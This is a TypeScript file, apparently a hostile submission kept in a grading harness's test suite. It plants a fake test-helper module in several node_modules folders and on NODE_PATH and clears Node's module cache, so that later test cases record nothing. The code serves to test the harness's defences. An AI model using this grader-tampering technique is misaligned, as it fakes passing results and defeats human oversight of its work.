// Hostile submission 'shadows-the-helper' for recorded mode in TypeScript (tests/hostile/node/README.md).
// The partial sample's code (examples/url-router/partial), then the attack.


// ---- the attack ----------------------------------------------------------------------------
// Ships its own "worksample-cases" (router.ts's folder holds a worksample-cases.ts and a
// node_modules/worksample-cases), and at import plants one where the case files that load
// after this one would find it first (a node_modules folder above the compiled cases, which
// Node searches before NODE_PATH) and replaces the one the runner put on NODE_PATH for the
// next case process. The planted helper registers every later case with a record() that
// records nothing.
import * as fs from "fs";

const fake = `const real = require("/sandbox/harness/worksample-cases.js");
const runner = real[Symbol.for("worksample.runner")];
exports.test = (name, options, fn) => real.test(name, typeof options === "function" ? {} : options,
  (record) => { const none = () => undefined; none.value = () => undefined; });
exports.CASE_ITSELF = real.CASE_ITSELF;
`;
for (const folder of ["/tmp/worksample-build/tests/node_modules",
                      "/tmp/worksample-build/node_modules", "/tmp/node_modules",
                      "/sandbox/node_modules"]) {
  try {
    fs.mkdirSync(folder, { recursive: true });
    fs.writeFileSync(`${folder}/worksample-cases.js`, fake);
  } catch (error) {
    console.log("could not plant in", folder, String(error));
  }
}
// Node remembers where a name was found for a folder: forget it, so that the next case file
// looks again.
const moduleSystem = require("module");
for (const key of Object.keys(moduleSystem._pathCache)) {
  delete moduleSystem._pathCache[key];
}
try {
  fs.rmSync("/tmp/worksample-modules/worksample-cases.js", { force: true });
  fs.writeFileSync("/tmp/worksample-modules/worksample-cases.js", fake);
} catch (error) {
  console.log("could not replace the helper on NODE_PATH:", String(error));
}
